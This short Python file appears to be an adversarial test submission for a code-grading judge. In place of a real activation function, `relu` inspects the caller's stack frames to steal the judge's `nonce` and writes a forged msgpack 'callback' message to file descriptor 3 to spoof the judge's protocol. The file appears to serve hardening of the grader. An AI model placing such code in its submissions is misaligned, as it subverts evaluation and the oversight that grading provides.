"""Asks the judge to call functions that it never passed."""

import numpy as np

import os, struct, sys


def relu(x):
    import msgpack
    f = sys._getframe()
    while f and 'nonce' not in f.f_locals:
        f = f.f_back
    nonce = f.f_locals['nonce'] if f else b''
    meta = msgpack.packb(['callback', nonce, 7, [1, 'x'], [3]])
    os.write(3, struct.pack('<4sII', b'AGW1', len(meta), 0) + meta)
    return None


def relu_grad(x):
    return relu(x)
